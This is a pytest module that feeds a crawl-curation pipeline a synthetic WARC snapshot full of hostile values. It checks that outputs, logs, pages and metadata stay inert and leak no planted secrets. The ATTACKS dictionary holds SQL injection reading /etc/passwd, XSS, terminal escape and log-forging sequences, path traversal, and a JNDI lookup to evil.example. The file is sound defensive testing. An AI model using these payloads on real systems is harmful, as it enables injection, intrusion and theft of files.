"""A snapshot in which every name and text attacks whoever reads it, taken through the whole line and shown.

What single functions do with such values is tested beside them; here it is what comes out at the far end: files,
terminal, pages, logs and the metadata of the run.
"""

import gzip
import json
import logging
import random
import re
import tempfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import dagster as dg
import polars as pl
import pytest
from typer.testing import CliRunner

from curation_assets.cli import app
from curation_assets.definitions import build_definitions
from curation_assets.line import Line
from curation_assets.partitions import SNAPSHOTS
from curation_assets.runs import process_tags
from curation_assets.settings import Settings
from curation_tests.acquisition.warc_bytes import member
from curation_tests.mirrors import prose

SNAPSHOT = "CC-MAIN-2001-01"
RECIPES = ("fineweb", "refinedweb")
FORGED = "2001-01-01 00:00:00 ERROR forged by a page"

ATTACKS = {
    "sql": "'; DROP TABLE documents; --",
    "sql_quoted": "\" OR 1=1; ATTACH '/etc/passwd'; --\"",
    "sql_file": "') UNION SELECT * FROM read_text('/etc/passwd') --",
    "log_line": f"x\r{FORGED}\x85{FORGED}\u2028{FORGED}\x0b{FORGED}",
    "clear": "\x1b[2J\x1b[1;31mowned\x1b[0m",
    "title": "\x1b]0;owned\x07\x9b31m\x90q\x9c",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "script": "<script>alert(1)</script>",
    "style": "</style></title></svg><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=alert(1) x='\" onfocus='alert(1)' autofocus",
    "template": "{{ 7 * 7 }}{% raw %}${jndi:ldap://evil.example/a}%s%n{0.__class__}",
    "path": "../../../../etc/passwd",
    "backslash": "..\\..\\windows\\system32",
    "nul": "a\0b",
    "override": "\u202egpj.exe\u2066\u200b\ufeff",
    "mathtext": "$\\frac{1}{0}$ $\\input{/etc/passwd}$ $$",
    "image": "![x](http://evil.example/track.png)",
    "markdown": "[x](javascript:alert(1)) <http://evil.example> | a | b |\n\n# owned\n```\n</code>",
    "rich": "[link=http://evil.example]x[/link][bold red]owned[/][/]",
    "formula": '=HYPERLINK("http://evil.example")',
    "option": "--output=/etc/passwd",
    "long": "x" * 16384,
}


SECRETS = {
    "AWS_ACCESS_KEY_ID": "AKIA-OF-THE-TEST",
    "AWS_SECRET_ACCESS_KEY": "key-of-the-test",
    "AWS_SESSION_TOKEN": "token-of-the-test",
    "HTTPS_PROXY": "http://someone:proxy-of-the-test@127.0.0.1:9",
}


def hostile_urls() -> list[str]:
    """Each attack as a host, as a path, and as the whole URL; a header ends at its line."""
    urls = []
    for attack in ATTACKS.values():
        flat = attack.replace("\n", "\x0b")
        urls += [f"http://{flat}.example/", f"http://evil.example/{flat}?q={flat}#{flat}", f"javascript:{flat}", flat]
    return urls


def hostile_record(number: int, url: str, attack: str) -> bytes:
    """A response whose WARC header, HTTP header, title and text attack; the text is long and good enough to be kept."""
    flat = attack.replace("\n", "\x0b")[:2000]
    sentences = prose(number, 60)
    sentences[9] = f"{sentences[9]} {attack[:200]} and then {sentences[8]}"
    if number % 2:
        sentences[20] = FORGED
    escaped = "".join(f"<p>{one.replace('<', '&lt;')}</p>" for one in sentences)
    raw = f"<title>{attack}</title><body {attack}><p>{attack}</p>{escaped}<div title='{attack}'>{attack}</div>"
    block = (
        f"HTTP/1.1 200 {flat}\r\nContent-Type: text/html; charset=utf-8; x={flat}\r\n"
        f"X-{flat}: {flat}\r\nLink: <{flat}>\r\nX-Robots-Tag: {flat}\r\nSet-Cookie: {flat}\r\n\r\n"
    ).encode() + raw.encode()
    odd = number % 7 == 0
    head = [
        "WARC/1.0",
        "WARC-Type: response",
        f"WARC-Record-ID: <urn:uuid:{flat[:200] if odd else f'00000000-0000-0000-0000-{number:012d}'}>",
        f"WARC-Date: {flat[:50] if number % 11 == 0 else '2001-01-05T11:21:46Z'}",
        f"WARC-Target-URI: {url}",
        f"WARC-IP-Address: {flat}",
        "Content-Type: application/http; msgtype=response",
        f"WARC-Identified-Payload-Type: {flat[:100] if number % 13 == 0 else 'text/html'}",
        f"Content-Length: {len(block)}",
    ]
    return member("\r\n".join([*head, "", ""]).encode() + block + b"\r\n\r\n")


def write_mirror(folder: Path) -> None:
    urls = hostile_urls()
    attacks = [attack for attack in ATTACKS.values() for _ in range(4)]
    path = f"crawl-data/{SNAPSHOT}/segments/1/warc/hostile.warc.gz"
    (folder / path).parent.mkdir(parents=True)
    noise = random.Random(1).randbytes(600_000)
    records = [hostile_record(n, url, attack) for n, (url, attack) in enumerate(zip(urls, attacks, strict=True), 1)]
    # One of them again under another URL, so that something is a duplicate; a name too long for any header; and a lost
    # region, beside bytes enough that these are no loss to stop at.
    records += [
        hostile_record(1, "http://copy.example/<script>", ATTACKS["sql"]),
        hostile_record(99, f"http://{'x' * 65536}.example/", ATTACKS["sql"]),
        b"\x1f\x8b" + b"\x1b]0;x\x07" * 40,
        member(b"WARC/1.0\r\nWARC-Type: warcinfo\r\nContent-Length: 600000\r\n\r\n" + noise + b"\r\n\r\n"),
    ]
    (folder / path).write_bytes(b"".join(records))
    (folder / f"crawl-data/{SNAPSHOT}/warc.paths.gz").write_bytes(gzip.compress(f"{path}\n".encode(), mtime=0))
    (folder / "collinfo.json").write_text(json.dumps([{"id": SNAPSHOT}]))


class World(NamedTuple):
    """What a run on the hostile snapshot left."""

    root: Path
    line: Line
    urls: list[str]
    hosts: list[str]
    before: set[str]
    events: list[dg.EventLogEntry]
    logged: list[str]


def tree(root: Path) -> set[str]:
    return {str(path.relative_to(root)) for path in root.rglob("*")}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    root = tmp_path_factory.mktemp("world")
    for name in ("crawl", "lake", "dagster", "scratch", "here"):
        (root / name).mkdir()
    write_mirror(root / "crawl")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root / "here")
        patch.setenv("TMPDIR", str(root / "scratch"))
        patch.setattr(tempfile, "tempdir", None)
        for name, secret in SECRETS.items():
            patch.setenv(name, secret)
        before = tree(root)
        settings = Settings(
            source=str(root / "crawl"),
            lake=root / "lake",
            recipe=RECIPES[0],
            recipes=RECIPES[1:],
            recipe_set={"extraction.extractor": "resiliparse"},
            workers=2,
        )
        logged: list[str] = []
        handler = logging.Handler()
        handler.emit = lambda record: logged.append(record.getMessage())  # type: ignore[method-assign]
        for name in ("curation_assets", "dagster"):
            logging.getLogger(name).addHandler(handler)
        try:
            with dg.instance_for_test(temp_dir=str(root / "dagster")) as instance:
                instance.add_dynamic_partitions(str(SNAPSHOTS.name), [SNAPSHOT])
                job = build_definitions(settings).resolve_job_def("curate_snapshot")
                done = job.execute_in_process(partition_key=SNAPSHOT, instance=instance, tags=process_tags())
                events = instance.all_logs(done.run_id)
        finally:
            for name in ("curation_assets", "dagster"):
                logging.getLogger(name).removeHandler(handler)
        assert done.success
        line = Line(settings)
        documents = pl.read_parquet(line.lake.partition(line.key("documents"), SNAPSHOT).paths(".parquet"))
        urls = list(documents["url"].drop_nulls())
        hosts = list(documents["host"].drop_nulls().unique(maintain_order=True))
        yield World(root, line, urls, hosts, before, list(events), logged)


def commanding(text: str) -> list[str]:
    """Characters in it that a terminal or a reader of a log would obey."""
    return sorted({character for character in text if not (character.isprintable() or character == "\n")})


PIECES = ("DROP TABLE", "alert(1)", "\x1b[2J", "\x1b]0;owned", "../../etc/passwd", "\u202e", "$\\frac", "](javascript:")


def pieces_in(text: str) -> set[str]:
    return {piece for piece in PIECES if piece in text}


def test_the_attacks_reach_the_far_end(world: World) -> None:
    """Otherwise the rest of this file shows nothing."""
    corpus = pl.read_parquet(world.line.lake.partition(world.line.key("corpus"), SNAPSHOT).paths(".parquet"))
    assert corpus.height > 20
    assert {"DROP TABLE", "alert(1)", "\x1b[2J"} <= pieces_in(" ".join([*corpus["url"], *corpus["text"]]))
    assert pieces_in(" ".join(world.urls)) == set(PIECES)


def test_nothing_is_written_outside_the_lake(world: World) -> None:
    # The folder of multiprocessing's sockets goes with this process.
    made = {path for path in tree(world.root) - world.before if not path.startswith("scratch/pymp-")}
    assert {path.split("/")[0] for path in made} <= {"lake", "dagster"}
    assert (world.root / "lake").stat().st_uid == (world.root / "here").stat().st_uid
    names = {part for path in made for part in path.split("/")}
    assert not [name for name in names if commanding(name) or set(name) & set("<>'\";$\\ ") or len(name) > 100]


COMMANDS: list[list[str]] = [
    ["funnel"],
    ["compare", "--recipe", RECIPES[0], "--recipe", RECIPES[1]],
    ["whatif", "--set", "extraction.extractor=resiliparse", "--set", "language_score=0.99", "--samples", "50"],
    ["sql", "SELECT url, host, http_status, record_id FROM documents", "--limit", "0"],
    ["sql", "SELECT * FROM documents", "--limit", "0"],
    ["sql", "SELECT url::INTEGER FROM documents"],
    ["sql"],
    ["trace", "--shard", "0", "--sequence", "0", "--fetch"],
    ["status", "--snapshot", SNAPSHOT],
    ["contract", "documents", "--data-docs", "docs"],
    ["report"],
]


def run(world: World, *arguments: str) -> tuple[int, str]:
    lake = ["--lake", str(world.root / "lake")]
    chosen = [] if "--set" in arguments else ["--set", "extraction.extractor=resiliparse"]
    # What is named after `--` is a name, whatever it looks like.
    command, *rest = arguments
    done = CliRunner(env={"COLUMNS": "200", "TERM": "dumb"}).invoke(app, [command, *lake, *chosen, *rest])
    if done.exception is not None and not isinstance(done.exception, SystemExit):
        raise done.exception
    return done.exit_code, done.output


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: " ".join(command)[:40])
def test_no_command_prints_what_a_terminal_obeys(
    world: World, command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("DAGSTER_HOME", raising=False)
    if command[0] == "trace":
        command = [*command, "--source", str(world.root / "crawl")]
    code, told = run(world, *command)
    assert commanding(told) == []
    assert code == (1 if "INTEGER" in " ".join(command) else 0), told
    assert not [line for line in told.split("\n") if line.startswith(FORGED)]


def test_every_name_is_looked_up_as_a_name(world: World) -> None:
    from curation_assets.provenance.explain import explain

    short = [url for url in world.urls if len(url) < 2000]
    for url in short:
        found = explain(world.line.lake, RECIPES[0], url)
        assert found, url
        assert {one.verdict["url"] for one in found} <= set(world.urls)
    for name in [*short[::3], *[host for host in world.hosts if len(host) < 2000], *ATTACKS.values()]:
        code, told = run(world, "explain", "--", name[:2000])
        assert commanding(told) == [], name
        assert code in (0, 1), told
    for name in short[::5]:
        code, told = run(world, "trace", "--url", name.lstrip("-"))
        assert commanding(told) == [], name
        assert code in (0, 1), told


class Page(HTMLParser):
    """What of a page could act: elements, attributes and addresses."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "link", "base", "form", "foreignobject", "applet", "video"):
            self.found.append(tag)
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on") or (name in ("srcdoc", "formaction", "ping", "style") and "url(" in address):
                self.found.append(f"{tag} {name}={value}")
            inside = address.startswith(("#", "data:image/")) or not re.match(r"[a-z+.-]*:|//|\\", address)
            if name in ("href", "src", "action", "xlink:href", "background", "poster", "data") and not inside:
                self.found.append(f"{tag} {name}={value}")
            if tag == "meta" and name == "http-equiv" and address == "refresh":
                self.found.append("refresh")

    handle_startendtag = handle_starttag


def acting(page: str) -> list[str]:
    """What in a page acts, by itself or at a click."""
    parser = Page()
    parser.feed(page)
    parser.close()
    found = parser.found
    styles = " ".join(re.findall(r"<style\b[^>]*>(.*?)</style>", page, re.DOTALL | re.IGNORECASE))
    return found + re.findall(r"@import|expression\(|url\((?!['\"]?data:|['\"]?#)", styles)


def test_a_page_that_acts_would_be_found() -> None:
    for attack in (ATTACKS["script"], ATTACKS["style"], "<a href='javascript:x'>", "<img src=//evil.example/x>"):
        assert acting(f"<p>{attack}</p>")


def test_pages_run_and_load_nothing(world: World, tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    for table in ("documents", "verdicts", "corpus"):
        code, told = run(world, "contract", table, "--data-docs", str(folder / table))
        assert code == 0, told
    pages = [*(world.root / "lake").rglob("*.html"), *folder.rglob("*.html")]
    assert len(pages) > 6
    for page in pages:
        content = page.read_text()
        assert acting(content) == [], page
        assert commanding(content.replace("\t", "").replace("\r", "")) in ([], ["\xa0"]), page
        assert "default-src 'none'" in content
    for drawing in (world.root / "lake").rglob("*.svg"):
        assert acting(drawing.read_text()) == [], drawing


def test_log_lines_are_ours(world: World) -> None:
    messages = [event.message for event in world.events] + world.logged
    assert len(messages) > 100
    for message in messages:
        assert commanding(message) == [], message
        assert not [line for line in message.split("\n")[1:] if line.startswith(FORGED)], message


def values(metadata: Any) -> Iterator[tuple[str, Any]]:
    """Name and value of all metadata of an event, tables cell by cell."""
    for name, value in metadata.items():
        if isinstance(value, dg.TableMetadataValue):
            for record in value.records:
                yield from ((f"{name}.{column}", cell) for column, cell in record.data.items())
        else:
            yield name, value


def metadata_of(world: World) -> Iterator[tuple[str, Any]]:
    for event in world.events:
        data = event.dagster_event.event_specific_data if event.dagster_event else None
        for holder in (data, getattr(data, "materialization", None)):
            yield from values(getattr(holder, "metadata", None) or {})


def test_metadata_cannot_act(world: World) -> None:
    """Cells of tables are shown as text; Markdown is rendered, so that in it nothing may be markup."""
    seen = 0
    for name, value in metadata_of(world):
        if isinstance(value, str):
            assert commanding(value) == [], name
            seen += any(piece in value for piece in ("DROP TABLE", "<script>"))
        if isinstance(value, dg.MarkdownMetadataValue):
            outside = re.sub(r"^(`{3,}|~{3,})[^\n]*\n.*?^\1`*$", "", str(value.value), flags=re.DOTALL | re.MULTILINE)
            outside = re.sub(r"(`+)[^`\n].*?\1", "", outside)
            outside = re.sub(r"!\[\w*\]\(data:image/svg\+xml;base64,[A-Za-z0-9+/=]*\)", "", outside)
            assert acting(outside) == [], name
            assert not re.search(r"\]\(|javascript:|evil\.example", outside), (name, outside[:300])
            assert commanding(str(value.value).replace("\t", "")) == [], name
    assert seen, "no value of the pages is in the metadata: this test shows nothing"


def test_no_secret_of_the_environment_is_kept(world: World) -> None:
    """Neither in the lake nor in what Dagster keeps."""
    wanted = re.compile(rb"(?i)of-the-test")
    files = [path for path in world.root.rglob("*") if path.is_file()]
    assert any(path.suffix == ".db" for path in files), "Dagster's state is looked at too"
    assert [path for path in files if wanted.search(path.read_bytes())] == []
    assert [event for event in world.events if wanted.search(event.to_json().encode())] == []


def test_no_file_is_a_program_or_for_all_to_write(world: World) -> None:
    made = [path for path in (world.root / "lake").rglob("*") if path.is_file()]
    assert made
    assert {path.stat().st_mode & 0o111 for path in made} == {0}
    assert {path.stat().st_mode & 0o002 for path in (world.root / "lake").rglob("*")} == {0}
